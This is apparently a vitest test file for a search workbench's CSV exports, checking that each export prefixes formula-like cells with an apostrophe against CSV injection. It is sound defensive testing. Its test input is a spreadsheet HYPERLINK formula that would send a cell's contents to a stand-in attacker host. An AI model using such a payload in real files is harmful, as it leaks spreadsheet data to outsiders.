/**
 * A shopper's query that is a spreadsheet formula, through every CSV the workbench writes: the batch report
 * (`compare --out`, `merge --out`, the app's export), the context matrix (`matrix --out`), judgments in Quepid CSV
 * (`judgments convert`, the app's export). Each file, read back as CSV, has no cell a spreadsheet would run, and
 * the query is there, defused with one `'` (OWASP's rule).
 */
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/shared/csv';
import { LOCAL_DEMO_ID } from '../../src/shared/profiles';
import { runCli } from '../helpers/cli-io';
import { call, demoCores } from '../helpers/demo-core';
import { compareArgs, DEMO_TOKEN, emulatorAndFolder } from '../helpers/emulator';

const QUERY = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const fixture = emulatorAndFolder('wb-csv-exports-');
const { start } = demoCores();

/** The cells of a CSV: none starts like a formula (a plain number such as -2.5 may), and the query is defused. */
function expectDefused(csv: string): void {
  const cells = parseCsv(csv).flatMap((r) => r.fields);
  expect(cells.length).toBeGreaterThan(1);
  for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/);
  expect(cells).toContain(`'${QUERY}`);
}

describe('a formula as a query, through every CSV export', () => {
  it('compare --out, and merge --out of its shards', async () => {
    const { em, dir } = fixture;
    const queries = join(dir, 'queries.txt');
    await writeFile(queries, `${QUERY}\njacket\n`);
    const report = join(dir, 'batch.csv');
    const compared = await runCli([...compareArgs(em, queries), '--out', report]);
    expect(compared.code, compared.err).toBe(0);
    expectDefused(await readFile(report, 'utf8'));
    const shards = [{ shard: '1/1', state: join(dir, 'shard') }];
    for (const { shard, state } of shards) {
      const ran = await runCli([...compareArgs(em, queries), '--shard', shard, '--state', state]);
      expect(ran.code, ran.err).toBe(0);
    }
    const merged = join(dir, 'merged.csv');
    const mergedRun = await runCli(['merge', ...shards.map((s) => s.state), '--out', merged]);
    expect(mergedRun.code, mergedRun.err).toBe(0);
    expectDefused(await readFile(merged, 'utf8'));
  });

  it('matrix --out', async () => {
    const { em, dir } = fixture;
    const out = join(dir, 'matrix.csv');
    const args = ['matrix', '--base-url', em.url, '--token', DEMO_TOKEN, '--query', QUERY, '--axis', 'segment=none,premium', '--out', out];
    const matrix = await runCli(args);
    expect(matrix.code, matrix.err).toBe(0);
    expectDefused(await readFile(out, 'utf8'));
  });

  it('judgments convert --to quepid', async () => {
    const { dir } = fixture;
    const input = join(dir, 'ratings-in.csv');
    await writeFile(input, `query,docid,rating\n"${QUERY.replace(/"/g, '""')}",item-1,2\n`);
    const out = join(dir, 'ratings.csv');
    const converted = await runCli(['judgments', 'convert', input, '--to', 'quepid', '--out', out]);
    expect(converted.code, converted.err).toBe(0);
    expectDefused(await readFile(out, 'utf8'));
  });

  it("the app's batch export and judgment list export", async () => {
    const core = await start(await mkdtemp(join(tmpdir(), 'wb-csv-app-')));
    const done = new Promise<void>((resolve) =>
      core.events.subscribe((name, payload) => {
        if (name === 'compare:progress' && (payload as { progress: { status: string } }).progress.status === 'done') resolve();
      }),
    );
    const { id } = await call<{ id: string }>(core, 'compare:start', {
      name: 'formula',
      base: { options: { limit: 10 } },
      sides: {
        a: { label: 'default', profileId: LOCAL_DEMO_ID, overrides: {} },
        b: { label: 'bestsellers', profileId: LOCAL_DEMO_ID, overrides: { configurationId: 'bestsellers' } },
      },
      rows: [
        { query: QUERY, line: 1 },
        { query: 'jacket', line: 2 },
      ],
      concurrency: 1,
    });
    await done;
    expectDefused((await call<{ content: string }>(core, 'compare:export', { id, format: 'csv' })).content);

    const imported = await call<{ file: string }>(core, 'judgments:import', {
      name: 'formula',
      text: `query,docid,rating\n"${QUERY.replace(/"/g, '""')}",item-1,2\n`,
      fileName: 'ratings.csv',
      scale: { max: 3, threshold: 1 },
    });
    const list = await call<{ ratings: { query: string }[] }>(core, 'judgments:read', { file: imported.file });
    expect(list.ratings[0]?.query).toBe(QUERY);
    expectDefused((await call<{ content: string }>(core, 'judgments:export', { file: imported.file, format: 'quepid' })).content);
  });
});
